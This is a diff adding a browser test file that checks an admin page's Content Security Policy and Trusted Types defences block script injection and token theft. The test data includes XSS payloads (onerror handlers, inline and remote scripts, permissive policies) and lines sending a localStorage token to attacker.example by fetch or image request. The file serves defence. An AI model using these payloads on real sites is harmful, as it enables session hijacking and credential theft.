@@ -1,0 +1,71 @@
+import { expect, expectLoaded, test } from './support';
+
+/** What a text that has got into the page would do to run, each on the way that it would take. */
+const waysToRun: Record<string, string | (() => unknown)> = {
+  'markup with a handler': () => (document.body.innerHTML = '<img src="/" onerror="window.isTaken = true">'),
+  'markup beside': () => document.body.insertAdjacentHTML('beforeend', '<b>Your session has ended</b>'),
+  'a page in a frame': () => {
+    document.createElement('iframe').srcdoc = '<script>parent.isTaken = true</script>';
+  },
+  'a handler': () => document.body.setAttribute('onclick', 'window.isTaken = true'),
+  'an inline script': () => {
+    document.createElement('script').textContent = 'window.isTaken = true';
+  },
+  'a script from elsewhere': () => {
+    document.createElement('script').src = 'https://attacker.example/script.js';
+  },
+  'a worker': () => new Worker('/assets/worker.js'),
+  'a policy that lets all through': "trustedTypes.createPolicy('attacker', { createHTML: (text) => text })",
+  'another policy in the place of ours': "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
+};
+
+/** What a script would do to take the token away. */
+const waysOut: Record<string, () => Promise<unknown>> = {
+  'a call': () => fetch(`https://attacker.example/?${localStorage.getItem('token')}`),
+  'an image': () => {
+    const image = new Image();
+    image.src = `https://attacker.example/?${localStorage.getItem('token')}`;
+    return image.decode();
+  },
+};
+
+test('a text runs on no way, neither as markup nor as a script', async ({ page, refused }) => {
+  await page.goto('/admin/plans');
+  await expectLoaded(page);
+  for (const [way, run] of Object.entries(waysToRun)) await expect(page.evaluate(run), way).rejects.toThrow();
+
+  // An inline script of pieces is refused without a word to whoever adds it.
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.append('window.isTaken = true');
+    document.body.append(script);
+  });
+  expect(await page.evaluate(() => 'isTaken' in window)).toBe(false);
+  expect(refused.splice(0)).not.toEqual([]);
+});
+
+test('the token leaves for no other origin', async ({ page, refused }) => {
+  const sent: string[] = [];
+  await page.route('https://attacker.example/**', (route) => {
+    sent.push(route.request().url());
+    return route.fulfill({ headers: { 'access-control-allow-origin': '*' } });
+  });
+  await page.goto('/admin/plans');
+  await expectLoaded(page);
+  for (const [way, send] of Object.entries(waysOut)) await expect(page.evaluate(send), way).rejects.toThrow();
+  expect(sent).toEqual([]);
+  expect(refused.splice(0)).not.toEqual([]);
+});
+
+test('a browser without Trusted Types shows the panel all the same', async ({ page }) => {
+  await page.route('/admin/plans', async (route) => {
+    const response = await route.fetch();
+    const policy = response.headers()['content-security-policy'] ?? '';
+    const known = policy.split(';').filter((directive) => !directive.includes('trusted-types'));
+    await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': known.join(';') } });
+  });
+  await page.addInitScript(() => Reflect.deleteProperty(window, 'trustedTypes'));
+  await page.goto('/admin/plans');
+  await expectLoaded(page);
+  expect(await page.evaluate(() => 'trustedTypes' in window)).toBe(false);
+});
